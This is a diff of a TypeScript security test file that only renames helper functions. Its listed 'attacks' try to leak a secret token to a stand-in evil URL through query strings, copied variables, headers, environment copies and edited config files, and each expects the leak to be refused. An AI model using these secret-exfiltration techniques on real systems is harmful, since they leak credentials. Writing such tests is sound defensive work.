@@ -30,7 +30,7 @@ const sendWithScript = async (code: string): Promise<Outcome> =>
       { method: 'POST' },
     ),
   );
-const setUp = async (script: string) => lab.script(`export const onRequest = (req) => { ${script} };`);
+const runOnRequest = async (script: string) => lab.script(`export const onRequest = (req) => { ${script} };`);
 
 const attacks: readonly Attack[] = [
   ['hosts', 'the query of a URL', refusedCode, () => lab.send({ url: getEvilUrl('/?q={{TOKEN}}') })],
@@ -323,7 +323,7 @@ const attacks: readonly Attack[] = [
     'a copy in a variable',
     refusedCode,
     async () => {
-      await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
+      await runOnRequest('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
       return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
   ],
@@ -332,7 +332,7 @@ const attacks: readonly Attack[] = [
     'a copy in a secret without hosts',
     refusedCode,
     async () => {
-      await setUp('req.env.setSecret("COPY", req.env.getSecret("TOKEN"));');
+      await runOnRequest('req.env.setSecret("COPY", req.env.getSecret("TOKEN"));');
       return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
   ],
@@ -341,7 +341,7 @@ const attacks: readonly Attack[] = [
     'a copy, after the secret was removed',
     refusedCode,
     async () => {
-      await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
+      await runOnRequest('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
       await lab.call('environments_update', { id: 'Dev', removeSecrets: ['TOKEN'] });
       return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
@@ -351,7 +351,7 @@ const attacks: readonly Attack[] = [
     'a copy, after the secret got another value',
     refusedCode,
     async () => {
-      await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
+      await runOnRequest('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
       await lab.call('environments_update', { id: 'Dev', secrets: { TOKEN: 'something else' } });
       return lab.send({ url: getEvilUrl('/{{COPY}}') });
     },
@@ -362,7 +362,7 @@ const attacks: readonly Attack[] = [
     refusedCode,
     async () => {
       await lab.call('environments_create', { name: 'Other', copyOf: 'Dev' });
-      await setUp('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
+      await runOnRequest('req.env.setVariable("COPY", req.env.getSecret("TOKEN"));');
       await lab.call('environments_create', { name: 'Third', copyOf: 'Dev' });
       await lab.call('environments_delete', { id: 'Dev' });
       await lab.call('environments_delete', { id: 'Other' });
@@ -425,7 +425,7 @@ const attacks: readonly Attack[] = [
         url: getEvilUrl(),
         headers: [{ name: 'x', value: '{{TOKEN}}' }],
       });
-      return codeIn(await lab.call('graphql_introspect', { id: created.id }));
+      return findRefusalCode(await lab.call('graphql_introspect', { id: created.id }));
     },
   ],
   [
@@ -559,7 +559,7 @@ const attacks: readonly Attack[] = [
     'a file of the folder that widens the hosts',
     refusedCode,
     async () => {
-      await widenInFiles();
+      await addHostInFiles();
       return lab.send({ url: getEvilUrl('/{{TOKEN}}') });
     },
   ],
@@ -616,7 +616,7 @@ const attacks: readonly Attack[] = [
 ];
 
 /** The error that an agent receives, or the fault of an execution. */
-const codeIn = (result: unknown): string =>
+const findRefusalCode = (result: unknown): string =>
   /may only be sent to|SECRET_HOST_REFUSED/.test(JSON.stringify(result))
     ? 'SECRET_HOST_REFUSED'
     : JSON.stringify(result);
@@ -630,7 +630,7 @@ const setProxy = async (proxy: object): Promise<void> => {
 
 /** Calls a function from a script. The outcome is the code of the error that the script gets. */
 const callFromScript = async (code: string): Promise<Outcome> =>
-  codeIn(
+  findRefusalCode(
     await lab.script(
       `export async function onRequest(req) { const token = req.env.getSecret('TOKEN'); const evil = ${JSON.stringify(getEvilUrl())}; try { ${code} } catch (error) { return error.code + error.message; } }`,
       { method: 'POST' },
@@ -642,7 +642,7 @@ const graphql = async (fields: object): Promise<Outcome> => {
   return lab.outcomeOf(await lab.call('graphql_execute', { id }));
 };
 
-const widenInFiles = async (): Promise<void> => {
+const addHostInFiles = async (): Promise<void> => {
   await lab.call('synchronization_synchronize', {});
   const files = (await readdir(lab.folder, { recursive: true })).filter((path) =>
     /environments\/.*\.yml$/.test(path),
